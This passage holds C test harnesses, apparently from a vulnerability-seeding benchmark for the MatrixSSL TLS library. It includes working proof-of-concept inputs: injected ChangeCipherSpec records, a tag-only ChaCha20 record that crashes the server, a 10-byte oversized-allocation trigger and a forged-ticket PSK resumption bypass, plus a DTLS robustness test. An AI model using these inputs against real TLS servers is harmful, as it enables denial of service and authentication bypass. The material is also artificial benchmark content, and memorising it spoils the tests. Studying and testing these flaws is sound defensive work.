        printf("tampered record: matrixSslReceivedData rc=%d, server flags&ERROR=%d, delivered=%d bytes\n", rc, !!(s.ssl->flags & SSL_FLAGS_ERROR), s.appLen);
    }
    printf("RESULT %s\n", crashed ? "VIOLATED (signal while the tampered record was processed: crash reachable by any on-path attacker)" : "ok (fatal alert, no crash)");
    return crashed;
}
