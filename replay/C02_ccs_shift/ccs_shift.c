/* Triage replay for C02.R8 (pointed out by a seeding sub-agent as present in the unmodified code):
   matrixSslDecodeTls13 ignores plaintext ChangeCipherSpec records (RFC 8446 compatibility mode) and keeps the number of
   bytes skipped in parsedBytes - but adds the ABSOLUTE offset `pb.buf.start - *in` each time.  With two or more CCS
   records in front of an application-data record in one read buffer the offset is counted twice and the plaintext is
   handed out from the wrong place.
   history: TLS 1.3 handshake ; client encrypts 64 bytes ; an on-path attacker prepends argv[1] (default 2) plaintext CCS
   records `14 03 03 00 01 01` (no key needed) ; the server receives everything in one buffer.
   exit 1: the server application is handed bytes that differ from what the client sent, with no alert ; exit 0 else. */
#include "harness.h"
static int32 cb(ssl_t *ssl, psX509Cert_t *cert, int32 alert) { return 0; }
int main(int argc, char **argv)
{
    int nccs = argc > 1 ? atoi(argv[1]) : 2, i, n;
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 15], x[1 << 15], msg[64];
    static const unsigned char ccs[6] = { 0x14, 3, 3, 0, 1, 1 };
    psCipher16_t suite = 0x1301;
    if (h_server_keys(&s) < 0) return 2;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_3, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c, &s) != 0) { printf("handshake failed\n"); return 2; }
    for (i = 0; i < 64; i++) msg[i] = 0x41 + i % 26;
    s.appLen = 0;
    n = h_send_app(&c, msg, 64, w, sizeof(w));
    if (n <= 0) { printf("encode failed\n"); return 2; }
    for (i = 0; i < nccs; i++) memcpy(x + 6 * i, ccs, 6);
    memcpy(x + 6 * nccs, w, n);
    h_feed(&s, x, n + 6 * nccs);
    printf("%d injected CCS: server delivered %d bytes, alerts=%d closed=%d lastRc=%d\n  ", nccs, s.appLen, s.alerts, s.closed, s.lastRc);
    for (i = 0; i < s.appLen; i++) printf("%02x", s.app[i]);
    printf("\n");
    if (s.appLen > 0 && (s.appLen != 64 || memcmp(s.app, msg, 64) != 0))
    {
        printf("DEFECT: delivered application data differs from what the peer sent (no integrity failure reported)\n");
        return 1;
    }
    printf("OK: %s\n", s.appLen == 64 ? "delivered data identical" : "nothing delivered");
    return 0;
}
