/*
    probe_trunc_hmac.c - side observation probe (UNMODIFIED code), not the seed.

    With the truncated_hmac extension (RFC 6066) negotiated,
    sslActivateReadCipher()/sslActivateWriteCipher() copy only deMacSize /
    enMacSize (= 10) bytes of the negotiated MAC key into sec.readMAC /
    sec.writeMAC, while tlsHMACSha1()/tlsHMACSha2() key the HMAC with the full
    hash length (20/32/48 bytes) taken from those buffers.  The record MAC key
    is therefore 10 secret bytes followed by zeros: 80 instead of 160+ bits,
    and not the key any other implementation would use.

    The probe does a TLS 1.2 RSA / AES-128-CBC-SHA handshake with
    options.truncHmac = 1 on the client and prints the live MAC key buffers.
    exit 0: observation NOT confirmed (full key in use), exit 3: confirmed,
    exit 2: harness problem.
*/
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslImpl.h"

#ifndef SEED_ROOT
# define SEED_ROOT "/tmp/seed14_C01"
#endif

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static int feed(ssl_t *ssl, const unsigned char *data, int len)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 avail, rc = 0, n;

    while (len > 0)
    {
        avail = matrixSslGetReadbuf(ssl, &buf);
        if (avail <= 0)
        {
            return -1;
        }
        n = len < avail ? len : avail;
        memcpy(buf, data, n);
        data += n; len -= n;
        rc = matrixSslReceivedData(ssl, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

static int transfer(ssl_t *from, ssl_t *to)
{
    unsigned char *out, tmp[20000];
    int32 n;
    int moved = 0;

    while ((n = matrixSslGetOutdata(from, &out)) > 0)
    {
        memcpy(tmp, out, n);
        matrixSslSentData(from, n);
        if (feed(to, tmp, n) < 0)
        {
            return -1;
        }
        moved += n;
    }
    return moved;
}

static void hex(const char *what, const unsigned char *p, int n)
{
    int i;

    printf("  %-28s", what);
    for (i = 0; i < n; i++)
    {
        printf("%02x", p[i]);
    }
    printf("\n");
}

int main(int argc, char **argv)
{
    const char *root = argc > 1 ? argv[1] : SEED_ROOT;
    char cert[512], key[512], ca[512];
    ssl_t *cli, *svr;
    sslKeys_t *ckeys, *skeys;
    sslSessOpts_t opts;
    psCipher16_t suite = TLS_RSA_WITH_AES_128_CBC_SHA;
    int i, a, b, tailZero;

    snprintf(cert, sizeof(cert), "%s/testkeys/RSA/2048_RSA.pem", root);
    snprintf(key, sizeof(key), "%s/testkeys/RSA/2048_RSA_KEY.pem", root);
    snprintf(ca, sizeof(ca), "%s/testkeys/RSA/2048_RSA_CA.pem", root);

    if (matrixSslOpen() < 0 || matrixSslNewKeys(&skeys, NULL) < 0 ||
        matrixSslNewKeys(&ckeys, NULL) < 0 ||
        matrixSslLoadRsaKeys(skeys, cert, key, NULL, NULL) < 0 ||
        matrixSslLoadRsaKeys(ckeys, NULL, NULL, NULL, ca) < 0)
    {
        printf("SETUP: key material\n");
        return 2;
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&svr, skeys, NULL, &opts) < 0)
    {
        return 2;
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    opts.truncHmac = 1;
    if (matrixSslNewClientSession(&cli, ckeys, NULL, &suite, 1, certCb,
            "localhost", NULL, NULL, &opts) < 0)
    {
        return 2;
    }
    for (i = 0; i < 20; i++)
    {
        a = transfer(cli, svr);
        b = transfer(svr, cli);
        if (a < 0 || b < 0)
        {
            printf("SETUP: handshake failed\n");
            return 2;
        }
        if (a == 0 && b == 0)
        {
            break;
        }
    }
    if (!matrixSslHandshakeIsComplete(cli) || !matrixSslHandshakeIsComplete(svr))
    {
        printf("SETUP: handshake incomplete\n");
        return 2;
    }
    printf("TLS 1.2 %s, truncated_hmac negotiated: %d\n",
        "TLS_RSA_WITH_AES_128_CBC_SHA", (int) svr->extFlags.truncated_hmac);
    printf("server: deMacSize %d nativeDeMacSize %d (HMAC-SHA1 key length used: %d)\n",
        svr->deMacSize, svr->nativeDeMacSize, SHA1_HASH_SIZE);
    hex("server sec.readMAC[0..19]", svr->sec.readMAC, 20);
    hex("server sec.writeMAC[0..19]", svr->sec.writeMAC, 20);
    hex("client sec.writeMAC[0..19]", cli->sec.writeMAC, 20);

    tailZero = 1;
    for (i = 10; i < 20; i++)
    {
        if (svr->sec.readMAC[i] || svr->sec.writeMAC[i] || cli->sec.writeMAC[i])
        {
            tailZero = 0;
        }
    }
    if (svr->extFlags.truncated_hmac && tailZero)
    {
        printf("CONFIRMED: bytes 10..19 of the live record MAC keys are zero: "
            "the HMAC-SHA1 key has 80 secret bits\n");
        return 3;
    }
    printf("not confirmed\n");
    return 0;
}
