/* C08 "grows a buffer beyond the documented maximum": ten bytes to a fresh TLS 1.3 capable server - a handshake record
   carrying a handshake header that announces a 16 MB message and one byte of it.  The TLS <= 1.2 decoder caps the
   announced length (1024 for the first message, 65536 otherwise); the TLS 1.3 reassembly allocates it as announced.
   build with -Wl,--wrap=malloc to see the allocation. */
#include "harness.h"
extern void *__real_malloc(size_t);
static size_t g_max; static int g_on;
void *__wrap_malloc(size_t s) { if (g_on && s > g_max) g_max = s; return __real_malloc(s); }
int main(void)
{
    static const unsigned char in[10] = { 0x16, 0x03, 0x03, 0x00, 0x05, 0x01, 0xff, 0xff, 0xff, 0x00 };
    hPeer s = {0}; int rc;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0) return 2;
    g_on = 1; rc = h_feed(&s, in, sizeof(in)); g_on = 0;
    printf("10 bytes in: matrixSslReceivedData rc=%d, largest allocation while processing them: %zu bytes\n", rc, g_max);
    printf("RESULT %s\n", g_max > 0x10000 ? "VIOLATED (unauthenticated peer makes the session allocate far beyond the 64 KB buffer maximum)" : "ok");
    return g_max > 0x10000;
}
