/* Triage replay for C08 (pointed out by a seeding sub-agent as present in the unmodified code):
   csChacha20Poly1305IetfDecryptTls13 accepts a record of exactly 16 bytes (tag only, empty TLSInnerPlaintext), unlike
   the AES-GCM callback; matrixSslDecodeTls13 then computes ptLen = 0 - 1 (uint32) and reads *(decryptTo + 0xFFFFFFFF)
   in the padding scan.  Any TLS 1.3 client can do this to a server after an ordinary handshake (suite 0x1303).
   The malicious record is sealed with the client's own traffic key: AEAD over the empty plaintext.
   exit 1: the process is killed by a signal in the victim (fork) ; exit 0: the victim answers with an alert. */
#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include <sys/wait.h>
#include <unistd.h>
static int32 cb(ssl_t *ssl, psX509Cert_t *cert, int32 alert) { return 0; }
int main(int argc, char **argv)
{
    hPeer c = {0}, s = {0};
    unsigned char rec[5 + 16], nonce[12], aad[5] = { 23, 3, 3, 0, 16 };
    psCipher16_t suite = argc > 1 ? (psCipher16_t) strtol(argv[1], NULL, 0) : 0x1303;
    int i, st;
    pid_t pid;
    if (h_server_keys(&s) < 0) return 2;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_3, &suite, 1, cb) < 0) return 2;
    if (h_handshake(&c, &s) != 0) { printf("handshake failed\n"); return 2; }
    /* seal the empty plaintext under the client's application write key */
    memset(nonce, 0, 12);
    memcpy(nonce + 4, c.ssl->sec.seq, 8);
    for (i = 0; i < 12; i++) nonce[i] ^= c.ssl->sec.tls13WriteIv[i];
    memcpy(rec, aad, 5);
    if (suite == 0x1303)
        psChacha20Poly1305IetfEncrypt(&c.ssl->sec.encryptCtx.chacha20poly1305ietf, (unsigned char *) "", 0, nonce, aad, 5, rec + 5);
    else
    {
        psAesReadyGCM(&c.ssl->sec.encryptCtx.aesgcm, nonce, aad, 5);
        psAesEncryptGCM(&c.ssl->sec.encryptCtx.aesgcm, (unsigned char *) "", rec + 5, 0);
        psAesGetGCMTag(&c.ssl->sec.encryptCtx.aesgcm, 16, rec + 5);
    }
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        h_feed(&s, rec, sizeof(rec));
        printf("server survived: alerts=%d closed=%d lastRc=%d outlen=%d\n", s.alerts, s.closed, s.lastRc, (int) s.ssl->outlen);
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("DEFECT: the server process was killed by signal %d while decoding a 16-byte (tag only) TLS 1.3 record\n", WTERMSIG(st));
        return 1;
    }
    printf("OK: record rejected without a memory error\n");
    return 0;
}
