/*
 * C14 demo: TLS 1.3 PSK resumption across a HelloRetryRequest.
 *
 * An in-memory client/server pair does
 *   1. a full TLS 1.3 handshake (the server issues a NewSessionTicket),
 *   2. a control resumption that goes through a HelloRetryRequest (the
 *      client's first key_share is for a group the server does not
 *      support) - this must resume on any correct library,
 *   3. the same, but ClientHello2 (the one that answers the
 *      HelloRetryRequest) carries a FOREIGN ticket: the 16-byte key name at
 *      the start of the ticket is changed, so the server holds no key for
 *      it.  ClientHello1 carried the genuine ticket.
 *
 * In run 3 the server has never validated the identity/binder of the
 * ClientHello it finally answers.  A correct server either falls back to a
 * full handshake or fails.  The demo exits 1 when the handshake completes
 * and the server regards it as a resumed session.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslImpl.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static sslKeys_t *g_svrKeys, *g_clnKeys;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* test certificates: accept */
}

/* Move everything `from` wants to send into `to` and let `to` process it.
   Returns <0 on a protocol failure, otherwise the number of bytes moved. */
static int xfer(ssl_t *from, ssl_t *to, const char *who)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, rc;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        inLen = matrixSslGetReadbuf(to, &in);
        if (inLen <= 0)
        {
            printf("  %s: no read buffer\n", who);
            return -1;
        }
        if (outLen > inLen)
        {
            outLen = inLen;
        }
        memcpy(in, out, outLen);
        rc = matrixSslSentData(from, outLen);
        if (rc < 0)
        {
            printf("  %s: matrixSslSentData %d\n", who, (int) rc);
            return -1;
        }
        moved += outLen;
        rc = matrixSslReceivedData(to, outLen, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                printf("  %s: receiver failed, rc=%d\n", who, (int) rc);
                return -1;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("  %s: receiver got alert level %d description %d\n",
                    who, pt[0], pt[1]);
                if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                {
                    return -1;
                }
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                rc = matrixSslProcessedData(to, &pt, &ptLen);
                continue;
            }
            break; /* REQUEST_SEND, REQUEST_RECV, HANDSHAKE_COMPLETE, SUCCESS */
        }
    }
    return moved;
}

static int newServer(ssl_t **ssl)
{
    sslSessOpts_t opts;
    uint16_t groups[1] = { namedgroup_secp256r1 };

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslSessOptsSetKeyExGroups(&opts, groups, 1, 1) < 0)
    {
        return -1;
    }
    return matrixSslNewServerSession(ssl, g_svrKeys, NULL, &opts);
}

/* hrr: offer x25519 first (with the only key share), secp256r1 second */
static int newClient(ssl_t **ssl, sslSessionId_t *sid, int hrr)
{
    sslSessOpts_t opts;
    uint16_t groupsHrr[2] = { namedgroup_x25519, namedgroup_secp256r1 };
    uint16_t groups[1] = { namedgroup_secp256r1 };
    psCipher16_t suite[1] = { TLS_AES_128_GCM_SHA256 };
    int32 rc;

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    if (hrr)
    {
        rc = matrixSslSessOptsSetKeyExGroups(&opts, groupsHrr, 2, 1);
    }
    else
    {
        rc = matrixSslSessOptsSetKeyExGroups(&opts, groups, 1, 1);
    }
    if (rc < 0)
    {
        return -1;
    }
    rc = matrixSslNewClientSession(ssl, g_clnKeys, sid, suite, 1, certCb,
            NULL, NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("  matrixSslNewClientSession %d\n", (int) rc);
        return -1;
    }
    return 0;
}

/*
 * Run one connection.  tamper: after ClientHello1 has been delivered and the
 * server has answered, change the key name of the ticket the client is going
 * to put into ClientHello2.
 * Returns 1 if both sides completed the handshake, 0 if it failed.
 * *resumed and *sawHrr report the server's view.
 */
static int runConn(sslSessionId_t *sid, int hrr, int tamper, int *resumed,
    int *sawHrr)
{
    ssl_t *cln = NULL, *svr = NULL;
    int i, rc, done = 0, n1, n2;

    *resumed = 0;
    *sawHrr = 0;
    if (newServer(&svr) < 0 || newClient(&cln, sid, hrr) < 0)
    {
        printf("  session setup failed\n");
        exit(2);
    }
    /* ClientHello1 -> server */
    rc = xfer(cln, svr, "c->s");
    if (rc < 0)
    {
        goto out;
    }
    if (svr->tls13IncorrectDheKeyShare)
    {
        *sawHrr = 1;
    }
    if (tamper)
    {
        psTls13Psk_t *psk = cln->sec.tls13SessionPskList;
        if (!*sawHrr || psk == NULL || psk->pskIdLen < 16)
        {
            printf("  cannot tamper: hrr=%d psk=%p\n", *sawHrr, (void *) psk);
            exit(2);
        }
        /* The ticket starts with the 16-byte name of the server's ticket
           key.  Another name = a ticket of some other server / key. */
        for (i = 0; i < 16; i++)
        {
            psk->pskId[i] ^= 0x5a;
        }
        printf("  ClientHello2 will carry a ticket with a foreign key name\n");
    }
    for (i = 0; i < 20; i++)
    {
        n1 = xfer(svr, cln, "s->c");
        if (n1 < 0)
        {
            goto out;
        }
        n2 = xfer(cln, svr, "c->s");
        if (n2 < 0)
        {
            goto out;
        }
        if (n1 == 0 && n2 == 0)
        {
            break;
        }
    }
    if (matrixSslHandshakeIsComplete(cln) && matrixSslHandshakeIsComplete(svr))
    {
        done = 1;
        *resumed = RESUMED_HANDSHAKE(svr) ? 1 : 0;
    }
out:
    if (!done && tamper)
    {
        /* informational only (see NOTES.md, side observations) */
        printf("  (failed handshake; server had %staken the PSK resumption "
            "path for ClientHello2)\n", RESUMED_HANDSHAKE(svr) ? "" : "NOT ");
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(svr);
    return done;
}

int main(void)
{
    sslSessionId_t *sid = NULL;
    unsigned char name[16], sym[32], mac[32];
    int done, resumed, sawHrr, bad = 0;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (matrixSslNewKeys(&g_svrKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_clnKeys, NULL) < 0)
    {
        return 2;
    }
    if (matrixSslLoadRsaKeysMem(g_svrKeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(g_clnKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("key load failed\n");
        return 2;
    }
    memset(name, 0x11, sizeof(name));
    memset(sym, 0x22, sizeof(sym));
    memset(mac, 0x33, sizeof(mac));
    if (matrixSslLoadSessionTicketKeys(g_svrKeys, name, sym, 32, mac, 32) < 0)
    {
        return 2;
    }
    matrixSslNewSessionId(&sid, NULL);

    printf("1. full TLS 1.3 handshake\n");
    done = runConn(sid, 0, 0, &resumed, &sawHrr);
    printf("   complete=%d resumed=%d\n", done, resumed);
    if (!done || resumed || sid->psk == NULL)
    {
        printf("SETUP PROBLEM: no initial session / ticket\n");
        return 2;
    }

    printf("2. control: resumption through a HelloRetryRequest, genuine "
        "ticket in both ClientHellos\n");
    done = runConn(sid, 1, 0, &resumed, &sawHrr);
    printf("   hrr=%d complete=%d resumed=%d\n", sawHrr, done, resumed);
    if (!sawHrr || !done || !resumed)
    {
        printf("SETUP PROBLEM: control resumption did not work\n");
        return 2;
    }

    printf("3. HelloRetryRequest, ClientHello2 carries a foreign ticket\n");
    done = runConn(sid, 1, 1, &resumed, &sawHrr);
    printf("   hrr=%d complete=%d resumed=%d\n", sawHrr, done, resumed);
    if (done && resumed)
    {
        printf("VIOLATION (C14): the server completed a RESUMED handshake "
            "although the ClientHello it answered carried a ticket that is "
            "not this server's (unknown key name) and whose binder was never "
            "verified; it used the PSK left over from ClientHello1.\n");
        bad = 1;
    }
    else if (done)
    {
        printf("   ok: fell back to a full handshake\n");
    }
    else
    {
        printf("   ok: handshake failed\n");
    }

    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(g_svrKeys);
    matrixSslDeleteKeys(g_clnKeys);
    matrixSslClose();
    if (bad)
    {
        return 1;
    }
    printf("PASS\n");
    return 0;
}
