/*
 * C16 demo: DTLS handshake over an in-memory datagram transport that
 * reorders and duplicates datagrams (never forges, never loses for good).
 *
 * A client/server pair is run with a small path MTU so that the server's
 * Certificate message has to be fragmented over several datagrams.  For
 * every flight of the handshake and every adjacent pair of datagrams in
 * that flight, one run is made in which exactly that pair is swapped on
 * the wire (plus runs in which only the fragments of a fragmented
 * handshake message are delivered in reverse order).  In further runs
 * each single datagram of each flight is duplicated by the network: once
 * with the copy arriving right behind the original, once with the copy
 * delayed until just before the next flight in the same direction.  In
 * yet further runs a single datagram is merely delayed (not lost) until
 * the next flight in its direction, so that retransmission timers fire
 * and the slow original then arrives next to its retransmission.
 * Application records are always delivered twice and must be handed to
 * the application once.  When nothing is in
 * transit and the handshake is not complete, a retransmission timeout is
 * simulated on both peers.
 *
 * Property: every such schedule must end with a completed handshake on
 * both sides and application data flowing in both directions.
 *
 * exit 0: property held for all schedules
 * exit 1: some schedule broke the handshake (details printed)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define MAX_DG      64
#define MAX_ROUNDS  40

typedef struct
{
    unsigned char *d;
    int len;
} dgram_t;

typedef struct
{
    ssl_t *ssl;
    const char *name;
    int wantSend;       /* last receive asked us to flush output */
    int failed;
    int gotApp;
    char app[64];
} peer_t;

/* schedule description */
enum { PERT_NONE = 0, PERT_SWAP, PERT_REVERSE_FRAGS, PERT_REVERSE_ALL,
       PERT_DUP_NOW, PERT_DUP_LATE, PERT_DELAY, PERT_LAST = PERT_DELAY };
static struct
{
    unsigned char *d;
    int len;
    int toServer;
} g_held;                 /* delayed duplicate waiting for delivery */
static int g_pertFlight;  /* which flight (global running index) to perturb */
static int g_pertKind;
static int g_pertK;       /* for PERT_SWAP: swap datagram k and k+1 */
static int g_flightNo;    /* running counter of flights put on the wire */
static int g_pertApplied; /* did the perturbation actually change anything */
static int g_flightSizes[256];
static int g_verbose;

static sslKeys_t *g_svrKeys, *g_clnKeys;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    /* Test certificates: accept whatever validation said (dates etc.) */
    return 0;
}

static void freeDgrams(dgram_t *dg, int n)
{
    int i;

    for (i = 0; i < n; i++)
    {
        free(dg[i].d);
        dg[i].d = NULL;
    }
}

/* Pull everything the peer wants to send right now, one datagram per
   matrixDtlsGetOutdata call.  Called with an empty outbuf this acts as the
   retransmit timer firing. */
static int collect(peer_t *p, dgram_t *dg)
{
    int n = 0;
    int32 len;
    unsigned char *buf;

    for (;; )
    {
        len = matrixDtlsGetOutdata(p->ssl, &buf);
        if (len < 0)
        {
            printf("    %s: matrixDtlsGetOutdata failed %d\n", p->name, len);
            p->failed = 1;
            return n;
        }
        if (len == 0)
        {
            break;
        }
        if (n == MAX_DG)
        {
            printf("    %s: too many datagrams\n", p->name);
            p->failed = 1;
            return n;
        }
        dg[n].d = malloc(len);
        memcpy(dg[n].d, buf, len);
        dg[n].len = len;
        n++;
        matrixDtlsSentData(p->ssl, len);
    }
    p->wantSend = 0;
    return n;
}

/* Is this datagram a lone plaintext (epoch 0) handshake record that carries
   a fragment (fragment_length != length) ? */
static int isHsFragment(const dgram_t *g)
{
    unsigned int hsLen, fragLen;

    if (g->len < 13 + 12 || g->d[0] != 22 /* handshake */)
    {
        return 0;
    }
    if (g->d[3] != 0 || g->d[4] != 0) /* epoch 0 only */
    {
        return 0;
    }
    hsLen = (g->d[14] << 16) | (g->d[15] << 8) | g->d[16];
    fragLen = (g->d[22] << 16) | (g->d[23] << 8) | g->d[24];
    return hsLen != fragLen;
}

static void perturb(dgram_t *dg, int *np, int toServer)
{
    dgram_t t;
    int i, j, first, last;
    int n = *np;

    if (g_flightNo < 256)
    {
        g_flightSizes[g_flightNo] = n;
    }
    if (g_flightNo != g_pertFlight)
    {
        return;
    }
    switch (g_pertKind)
    {
    case PERT_SWAP:
        if (g_pertK + 1 < n)
        {
            t = dg[g_pertK]; dg[g_pertK] = dg[g_pertK + 1]; dg[g_pertK + 1] = t;
            g_pertApplied = 1;
        }
        break;
    case PERT_REVERSE_FRAGS:
        first = last = -1;
        for (i = 0; i < n; i++)
        {
            if (isHsFragment(&dg[i]))
            {
                if (first < 0)
                {
                    first = i;
                }
                last = i;
            }
        }
        if (first >= 0 && last > first)
        {
            for (i = first, j = last; i < j; i++, j--)
            {
                t = dg[i]; dg[i] = dg[j]; dg[j] = t;
            }
            g_pertApplied = 1;
        }
        break;
    case PERT_REVERSE_ALL:
        if (n > 1)
        {
            for (i = 0, j = n - 1; i < j; i++, j--)
            {
                t = dg[i]; dg[i] = dg[j]; dg[j] = t;
            }
            g_pertApplied = 1;
        }
        break;
    case PERT_DUP_NOW:
        if (g_pertK < n && n < MAX_DG)
        {
            for (i = n; i > g_pertK + 1; i--)
            {
                dg[i] = dg[i - 1];
            }
            dg[g_pertK + 1].len = dg[g_pertK].len;
            dg[g_pertK + 1].d = malloc(dg[g_pertK].len);
            memcpy(dg[g_pertK + 1].d, dg[g_pertK].d, dg[g_pertK].len);
            *np = n + 1;
            g_pertApplied = 1;
        }
        break;
    case PERT_DUP_LATE:
        if (g_pertK < n)
        {
            g_held.len = dg[g_pertK].len;
            g_held.d = malloc(g_held.len);
            memcpy(g_held.d, dg[g_pertK].d, g_held.len);
            g_held.toServer = toServer;
            g_pertApplied = 1;
        }
        break;
    case PERT_DELAY:
        /* datagram k is not lost, only slow: it arrives just before the
           next flight travelling in the same direction */
        if (g_pertK < n)
        {
            g_held.len = dg[g_pertK].len;
            g_held.d = dg[g_pertK].d;
            g_held.toServer = toServer;
            for (i = g_pertK; i + 1 < n; i++)
            {
                dg[i] = dg[i + 1];
            }
            dg[n - 1].d = NULL;
            *np = n - 1;
            g_pertApplied = 1;
        }
        break;
    default:
        break;
    }
}

static void deliver(peer_t *p, const dgram_t *g);

/* The delayed duplicate finally arrives */
static void deliverHeld(peer_t *p, int toServer)
{
    dgram_t g;

    if (g_held.d != NULL && g_held.toServer == toServer)
    {
        g.d = g_held.d;
        g.len = g_held.len;
        if (g_verbose)
        {
            printf("    delayed duplicate (%d bytes) reaches %s\n", g.len,
                p->name);
        }
        deliver(p, &g);
        free(g_held.d);
        g_held.d = NULL;
    }
}

/* -v: describe the records of a datagram (plaintext handshake headers) */
static void describe(const char *to, const dgram_t *g)
{
    int off = 0, rlen;

    printf("      -> %s:", to);
    while (off + 13 <= g->len)
    {
        const unsigned char *r = g->d + off;
        rlen = (r[11] << 8) | r[12];
        printf(" [type %d epoch %d rsn %d", r[0], (r[3] << 8) | r[4],
            (r[9] << 8) | r[10]);
        if (r[0] == 22 && r[3] == 0 && r[4] == 0 && rlen >= 12)
        {
            printf(" hs %d msn %d off %d len %d", r[13], (r[17] << 8) | r[18],
                (r[19] << 16) | (r[20] << 8) | r[21],
                (r[22] << 16) | (r[23] << 8) | r[24]);
        }
        printf("]");
        off += 13 + rlen;
    }
    printf("\n");
}

/* Hand one datagram to a peer */
static void deliver(peer_t *p, const dgram_t *g)
{
    unsigned char *rb, *pt;
    uint32 ptLen;
    int32 rbLen, rc;

    if (p->failed)
    {
        return;
    }
    if (g_verbose)
    {
        describe(p->name, g);
    }
    rbLen = matrixSslGetReadbufOfSize(p->ssl, g->len, &rb);
    if (rbLen < g->len)
    {
        printf("    %s: no read buffer (%d < %d)\n", p->name, rbLen, g->len);
        p->failed = 1;
        return;
    }
    memcpy(rb, g->d, g->len);
    rc = matrixSslReceivedData(p->ssl, g->len, &pt, &ptLen);
    for (;; )
    {
        switch (rc)
        {
        case MATRIXSSL_REQUEST_SEND:
            p->wantSend = 1;
            return;
        case MATRIXSSL_REQUEST_RECV:
        case MATRIXSSL_SUCCESS:
            return;
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            return;
        case MATRIXSSL_APP_DATA:
            if (ptLen < sizeof(p->app))
            {
                memcpy(p->app, pt, ptLen);
                p->app[ptLen] = 0;
                p->gotApp++;
            }
            rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
            continue;
        case MATRIXSSL_RECEIVED_ALERT:
            if (pt[0] == SSL_ALERT_LEVEL_WARNING)
            {
                rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
                continue;
            }
            printf("    %s: received fatal alert %d from peer\n", p->name,
                pt[1]);
            p->failed = 1;
            return;
        default:
            printf("    %s: matrixSslReceivedData failed, rc=%d\n", p->name,
                rc);
            p->failed = 1;
            /* whatever alert got queued is still sent to the peer */
            p->wantSend = 1;
            return;
        }
    }
}

static int sendApp(peer_t *from, peer_t *to, const char *msg)
{
    unsigned char *wb;
    int32 n;
    dgram_t dg[MAX_DG];
    int cnt, i;
    int len = (int) strlen(msg);

    n = matrixSslGetWritebuf(from->ssl, &wb, len);
    if (n < len)
    {
        printf("    %s: matrixSslGetWritebuf %d\n", from->name, n);
        return -1;
    }
    memcpy(wb, msg, len);
    if (matrixSslEncodeWritebuf(from->ssl, len) < 0)
    {
        printf("    %s: matrixSslEncodeWritebuf failed\n", from->name);
        return -1;
    }
    cnt = collect(from, dg);
    to->gotApp = 0;
    for (i = 0; i < cnt; i++)
    {
        deliver(to, &dg[i]);
        deliver(to, &dg[i]); /* the network duplicates application records */
    }
    freeDgrams(dg, cnt);
    if (to->failed || to->gotApp != 1 || strcmp(to->app, msg) != 0)
    {
        printf("    %s: application data \"%s\" was delivered %d times "
            "(expected exactly once)\n", to->name, msg, to->gotApp);
        return -1;
    }
    return 0;
}

/* One full connection under the currently configured schedule.
   returns 0 ok, -1 property violated */
static int runOne(uint32 versionFlag, psCipher16_t cipher)
{
    peer_t cln, svr;
    sslSessOpts_t opts;
    dgram_t dg[MAX_DG];
    int n, i, round, rc = -1;
    int idle;

    memset(&cln, 0, sizeof(cln));
    memset(&svr, 0, sizeof(svr));
    cln.name = "client";
    svr.name = "server";
    g_flightNo = 0;
    g_pertApplied = 0;
    free(g_held.d);
